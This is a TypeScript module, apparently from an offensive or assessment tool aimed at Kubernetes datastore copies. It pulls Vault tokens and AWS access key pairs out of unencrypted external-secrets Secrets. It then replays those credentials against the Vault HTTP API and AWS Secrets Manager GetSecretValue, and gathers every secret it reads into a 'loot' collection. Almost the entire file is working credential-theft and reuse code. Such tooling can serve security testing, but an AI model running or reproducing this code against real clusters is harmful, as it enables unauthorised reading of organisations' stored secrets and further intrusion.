// Credential reuse from the datastore: a SecretStore names a key server and the Secret holding its token, and the
// ExternalSecrets name the keys it reads. Whoever reads the datastore (a disk copy, etcd) reads all three; when the
// token Secret is stored in the clear, the attacker replays the token from anywhere that reaches the key server and
// reads those keys - what the controller itself can read. (A token Secret encrypted at rest is not opened here; the
// note says so.) Same idea as the KMS plugin's token on the disk (disk-attack.ts). An `aws` store's access key pair
// (auth.secretRef) is replayed the same way against Secrets Manager GetSecretValue.
import { GetSecretValueCommand, SecretsManagerClient } from '@aws-sdk/client-secrets-manager';
import { decodeObject } from '../../objects/object-codec.js';
import { parseStoredValue, type StoredValue } from '../decrypt-trial.js';
import type { Loot } from '../loot.js';

/** Where kube keeps the external-secrets.io objects (custom resources: /registry/<group>/<plural>/...). */
export const EXTERNAL_SECRETS_PREFIX = '/registry/external-secrets.io/';
export const EXTERNAL_SECRETS_END = '/registry/external-secrets.io0';

interface VaultStoreSpec {
  server?: string;
  path?: string;
  version?: string;
  namespace?: string;
  auth?: { tokenSecretRef?: { name?: string; key?: string; namespace?: string } };
}

interface SecretRef {
  name?: string;
  key?: string;
  namespace?: string;
}

interface AwsStoreSpec {
  service?: string;
  region?: string;
  role?: string;
  auth?: { secretRef?: { accessKeyIDSecretRef?: SecretRef; secretAccessKeySecretRef?: SecretRef; sessionTokenSecretRef?: SecretRef } };
}

interface EsObject {
  kind?: string;
  metadata?: { name?: string; namespace?: string };
  spec?: {
    provider?: { vault?: VaultStoreSpec; aws?: AwsStoreSpec };
    secretStoreRef?: { name?: string; kind?: string };
    data?: { remoteRef?: { key?: string } }[];
    dataFrom?: { extract?: { key?: string } }[];
  };
}

function decode(v: StoredValue): EsObject | undefined {
  try {
    return decodeObject(v.value);
  } catch {
    return undefined;
  }
}

/** The remote keys the ExternalSecrets using `store` name. */
function keysOf(store: EsObject, externalSecrets: readonly EsObject[]): Set<string> {
  const keys = new Set<string>();
  for (const es of externalSecrets) {
    const r = es.spec?.secretStoreRef;
    if (r?.name !== store.metadata?.name || (r?.kind ?? 'SecretStore') !== store.kind) continue;
    if (store.kind === 'SecretStore' && es.metadata?.namespace !== store.metadata?.namespace) continue;
    for (const d of es.spec?.data ?? []) if (d.remoteRef?.key) keys.add(d.remoteRef.key);
    for (const d of es.spec?.dataFrom ?? []) if (d.extract?.key) keys.add(d.extract.key);
  }
  return keys;
}

/** A key of a Secret in the datastore, when that Secret is stored in the clear; otherwise a note says why not. */
function clearSecretKey(secrets: readonly StoredValue[], ns: string, ref: SecretRef, defaultKey: string, what: string, loot: Loot): string | undefined {
  const stored = secrets.find((s) => s.key === `/registry/secrets/${ns}/${ref.name}`);
  if (!stored) {
    loot.notes.push(`${what} Secret ${ns}/${ref.name} is not in the datastore`);
    return undefined;
  }
  const format = parseStoredValue(stored.value);
  if (format.kind !== 'identity') {
    loot.notes.push(`${what} Secret ${ns}/${ref.name} is stored encrypted (${format.kind}); not replayed`);
    return undefined;
  }
  const secret = decode(stored) as { data?: Record<string, string> } | undefined;
  return Buffer.from(secret?.data?.[ref.key ?? defaultKey] ?? '', 'base64').toString('latin1').trim() || undefined;
}

/** An aws store (Secrets Manager) with an access key pair in Secrets: GetSecretValue of every key its ExternalSecrets name. */
async function replayAwsKeyPair(store: EsObject, storeName: string, keys: Set<string>, secrets: readonly StoredValue[], where: string, awsEndpoint: string | undefined, loot: Loot, signal: AbortSignal): Promise<void> {
  const aws = store.spec!.provider!.aws!;
  const refs = aws.auth?.secretRef;
  const ns = store.metadata?.namespace;
  if (aws.service !== 'SecretsManager' || !refs?.accessKeyIDSecretRef?.name || !refs.secretAccessKeySecretRef?.name || !ns || !aws.region) {
    loot.notes.push(`${where}: ${storeName} (aws provider, ${aws.service ?? '?'}) has no access key pair in a Secret of its namespace; not replayed`);
    return;
  }
  const id = clearSecretKey(secrets, ns, refs.accessKeyIDSecretRef, 'access-key', `${where}: ${storeName}'s access key ID`, loot);
  const secret = clearSecretKey(secrets, ns, refs.secretAccessKeySecretRef, 'secret-access-key', `${where}: ${storeName}'s secret access key`, loot);
  const session = refs.sessionTokenSecretRef?.name ? clearSecretKey(secrets, ns, refs.sessionTokenSecretRef, 'session-token', `${where}: ${storeName}'s session token`, loot) : undefined;
  if (!id || !secret) return;
  const sm = new SecretsManagerClient({ region: aws.region, ...(awsEndpoint ? { endpoint: awsEndpoint } : {}), credentials: { accessKeyId: id, secretAccessKey: secret, ...(session ? { sessionToken: session } : {}) }, maxAttempts: 1 });
  let read = 0;
  let refused = 0;
  for (const key of keys) {
    const out = await sm.send(new GetSecretValueCommand({ SecretId: key }), { abortSignal: signal }).catch(() => undefined);
    const bytes = out?.SecretString !== undefined ? Buffer.from(out.SecretString, 'utf8') : out?.SecretBinary ? Buffer.from(out.SecretBinary) : undefined;
    if (bytes) {
      read++;
      loot.blobs.push({ label: `${where}: ${storeName}'s access key pair (Secrets in the clear) replayed against Secrets Manager: GetSecretValue ${key}`, bytes, credentialReuse: true });
    } else {
      refused++;
    }
  }
  loot.notes.push(
    `${where}: ${storeName} (aws Secrets Manager, ${aws.region}${aws.role ? `, role ${aws.role} not assumed` : ''}) with its access key pair in Secrets in the clear; ` +
      `replayed for the ${keys.size} key(s) its ExternalSecrets name: ${read} read, ${refused} refused or unreachable`,
  );
}

export async function replaySecretStoreTokens(objects: readonly StoredValue[], secrets: readonly StoredValue[], where: string, loot: Loot, signal: AbortSignal, awsEndpoint?: string): Promise<void> {
  const decoded = objects.map(decode).filter((o): o is EsObject => o !== undefined);
  const stores = decoded.filter((o) => (o.kind === 'SecretStore' || o.kind === 'ClusterSecretStore') && (o.spec?.provider?.vault || o.spec?.provider?.aws));
  const externalSecrets = decoded.filter((o) => o.kind === 'ExternalSecret');
  const seen = new Set<string>();
  for (const store of stores) {
    const vault = store.spec!.provider!.vault;
    const storeName = `${store.kind} ${store.metadata?.namespace ? `${store.metadata.namespace}/` : ''}${store.metadata?.name ?? '?'}`;
    // A store's older revisions (a copy keeps them until compaction) name the same token: replay it once.
    if (seen.has(storeName)) continue;
    seen.add(storeName);
    if (!vault) {
      await replayAwsKeyPair(store, storeName, keysOf(store, externalSecrets), secrets, where, awsEndpoint, loot, signal);
      continue;
    }
    const ref = vault.auth?.tokenSecretRef;
    const ns = ref?.namespace ?? store.metadata?.namespace;
    if (!vault.server || !ref?.name || !ns) {
      loot.notes.push(`${where}: ${storeName} (vault provider) authenticates without a token Secret; not replayed`);
      continue;
    }
    const token = clearSecretKey(secrets, ns, ref, 'token', `${where}: ${storeName}'s token`, loot);
    if (!token) continue;
    const mount = vault.path ?? 'secret';
    const v2 = (vault.version ?? 'v2') === 'v2';
    const keys = keysOf(store, externalSecrets);
    let read = 0;
    let refused = 0;
    for (const key of keys) {
      const path = v2 ? `${mount}/data/${key}` : `${mount}/${key}`;
      const res = await fetch(`${vault.server}/v1/${path}`, {
        headers: { 'X-Vault-Token': token, ...(vault.namespace ? { 'X-Vault-Namespace': vault.namespace } : {}) },
        signal,
      }).catch(() => undefined);
      const body = res ? Buffer.from(await res.arrayBuffer()) : Buffer.alloc(0);
      if (res?.ok) {
        read++;
        loot.blobs.push({
          label: `${where}: ${storeName}'s token (Secret ${ns}/${ref.name}, stored in the clear) replayed against ${vault.server}: GET /v1/${path}`,
          bytes: body,
          credentialReuse: true,
        });
      } else {
        refused++;
        body.fill(0);
      }
    }
    loot.notes.push(
      `${where}: ${storeName} (vault ${vault.server}, ${mount}/ ${v2 ? 'v2' : 'v1'}) with its token in Secret ${ns}/${ref.name} in the clear; ` +
        `replayed for the ${keys.size} key(s) its ExternalSecrets name: ${read} read, ${refused} refused or unreachable`,
    );
  }
}
